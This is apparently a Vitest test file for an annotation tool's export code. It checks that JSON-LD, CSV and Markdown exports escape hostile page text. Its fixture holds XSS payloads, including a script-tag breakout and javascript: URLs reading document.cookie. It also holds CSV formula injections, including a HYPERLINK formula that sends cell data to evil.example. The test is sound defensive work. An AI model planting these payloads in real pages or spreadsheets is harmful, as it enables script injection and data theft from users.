import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { buildExport } from '../../utils/export';
import { toClaimReviews } from '../../utils/export/claim-review';
import { csvCell, isWebUrl, jsonForHtml, mdCode, mdLink, mdText } from '../../utils/export/safe';
import { makeAnnotation } from '../support/annotations';

/**
 * Issue 11: exports carry page text and imported notes; pasted into HTML, a
 * spreadsheet or a Markdown document they must stay data.
 */
const now = new Date('2026-11-27T12:00:00Z');
const SCRIPT = '</script><script>alert(document.domain)</script>';
const hostile = makeAnnotation({
  verdict: 'false',
  page: { url: 'https://example.com/a', title: `=HYPERLINK("http://evil.example/?x="&A1,"click")\nBreaking ${SCRIPT}` },
  claim: { type: 'quantity', text: '@SUM(1+1)', value: 2, unit: null, approx: false, hedges: [] },
  target: { quote: { type: 'TextQuoteSelector', exact: '@SUM(1+1)', prefix: '', suffix: '' }, position: { type: 'TextPositionSelector', start: 0, end: 9 } },
  sentence: `He said ${SCRIPT} <!-- & \u2028 line \u2029 para [click](javascript:alert(1)) <img src=x onerror=alert(1)>`,
  note: '  =1+1\nsecond line',
  evidence: [
    { url: 'javascript:alert(document.cookie)', title: 'Official [source](http://evil.example)' },
    { url: 'data:text/html,<script>alert(1)</script>' },
    { url: 'https://good.example/report?q=<b>', title: 'Report *one*' },
  ],
  tags: ['-2+3', '\tcmd'],
});

describe('ClaimReview / JSON-LD safe to embed in <script>', () => {
  const file = buildExport('claimreview', [hostile], { kind: 'all' }, now);

  it('escapes <, >, &, U+2028 and U+2029 and still parses to the same JSON', () => {
    expect(file.content).not.toMatch(/[<>&\u2028\u2029]/);
    expect(file.content).not.toContain('</script');
    expect(file.content).toContain('\\u003c/script\\u003e');
    expect(JSON.parse(file.content)).toEqual(JSON.parse(JSON.stringify(toClaimReviews([hostile]))));
  });

  it('cites only http(s) evidence', () => {
    const [review] = JSON.parse(file.content);
    // Serialised as an IRI must be: the < > of the stored link percent-encoded.
    expect(review.citation.map((c: { url: string }) => c.url)).toEqual(['https://good.example/report?q=%3Cb%3E']);
  });

  it('gives the page as the appearance only when it is a web URL', () => {
    const [review] = JSON.parse(buildExport('claimreview', [{ ...hostile, page: { ...hostile.page, url: 'javascript:alert(1)' } }], { kind: 'all' }, now).content);
    expect(review.itemReviewed.appearance).not.toHaveProperty('url');
    expect(review).not.toHaveProperty('url');
    expect(JSON.parse(file.content)[0].itemReviewed.appearance.url).toBe('https://example.com/a');
  });

  it('leaves the W3C export parseable and just as safe', () => {
    const w3c = buildExport('w3c', [hostile], { kind: 'all' }, now).content;
    expect(w3c).not.toMatch(/[<>&\u2028\u2029]/);
    expect(JSON.parse(w3c).first.items[0].body[1].value).toBe(hostile.note);
  });

  it('jsonForHtml round-trips every character', () => {
    const value = { s: 'a<b>c&d\u2028e\u2029f</script><!--', n: [1, '>'] };
    expect(JSON.parse(jsonForHtml(value))).toEqual(value);
    expect(JSON.parse(jsonForHtml(value, 2))).toEqual(value);
  });
});

describe('CSV formula guard on every cell', () => {
  const csv = buildExport('csv', [hostile], { kind: 'all' }, now).content;
  const [row] = Papa.parse<Record<string, string>>(csv, { header: true }).data;

  it('neutralises a multi-line title that opens with a formula', () => {
    expect(row.page_title.startsWith(`'=HYPERLINK(`)).toBe(true);
    expect(row.page_title).toContain('\nBreaking');
  });

  it('neutralises cells opening with blanks, tab or CR before = + - @', () => {
    expect(row.note).toBe("'  =1+1\nsecond line");
    expect(row.quote).toBe("'@SUM(1+1)");
    expect(row.tags).toBe("'-2+3, \tcmd");
  });

  it.each([
    ['=1+1', true], ['+1', true], ['-1', true], ['@x', true], [' =1', true], ['\t=1', true], ['\r=1', true], ['\n=1', true],
    ['\tplain', true], ['\rplain', true], ['\u00a0=1', true], ['\uff1d1+1', true], ['=1\n2', true],
    ['plain', false], ['a=1', false], ['', false], ['1-2', false], ['e-mail', false],
  ])('csvCell(%j) guarded: %s', (cell, guarded) => {
    expect(csvCell(cell) !== cell).toBe(guarded);
    if (guarded) expect(csvCell(cell)).toBe(`'${cell}`);
  });
});

describe('Markdown export', () => {
  const md = buildExport('markdown', [hostile], { kind: 'all' }, now).content;

  it('links only http(s) evidence; other URLs are inert code', () => {
    expect(md).not.toMatch(/(?<!\\)\]\(<?javascript:/i);
    expect(md).not.toMatch(/(?<!\\)\]\(<?data:/i);
    expect(md).toContain('`javascript:alert(document.cookie)`');
    expect(md).toContain('`data:text/html,<script>alert(1)</script>`');
    expect(md).toContain('[Report \\*one\\*](<https://good.example/report?q=%3Cb%3E>)');
  });

  it('escapes page text so it cannot open links or HTML', () => {
    expect(md).not.toContain('[click](javascript');
    expect(md).toContain('\\[click\\](javascript:alert(1))');
    expect(md).toContain('Official \\[source\\](http://evil.example)');
    // Every < of page text is escaped; the only raw ones left are in code spans and the two link destinations.
    const outsideCode = md.replace(/`[^`]*`/g, '').replace(/<https:\/\/[^>\s]+>/g, '');
    expect(outsideCode).not.toMatch(/(?<!\\)</);
    expect(md).not.toMatch(/\u2028|\u2029/);
    expect(md).toContain('## =HYPERLINK("http://evil.example/?x="\\&A1,"click") Breaking'); // titles stay readable, on one line
  });

  it('shows a non-web page URL as code, not as an autolink', () => {
    const page = buildExport('markdown', [makeAnnotation({ page: { url: 'javascript:alert(1)', title: 'x' } })], { kind: 'all' }, now).content;
    expect(page).toContain('`javascript:alert(1)`');
    expect(page).not.toContain('<javascript:');
  });

  it('helpers: code spans survive backticks, labels are escaped, URLs normalised', () => {
    expect(mdCode('a`b')).toBe('``a`b``');
    expect(mdCode('`x')).toBe('`` `x ``');
    expect(mdText('a\nb *c* <d> &e [f]')).toBe('a b \\*c\\* \\<d\\> \\&e \\[f\\]');
    expect(mdLink('t', 'https://x.example/a b>')).toBe('[t](<https://x.example/a%20b%3E>)');
    expect(mdLink(undefined, 'vbscript:x')).toBe('`vbscript:x`');
    expect(isWebUrl('HTTPS://x.example')).toBe(true);
    expect(isWebUrl('javascript:alert(1)')).toBe(false);
    expect(isWebUrl('/relative')).toBe(false);
  });
});
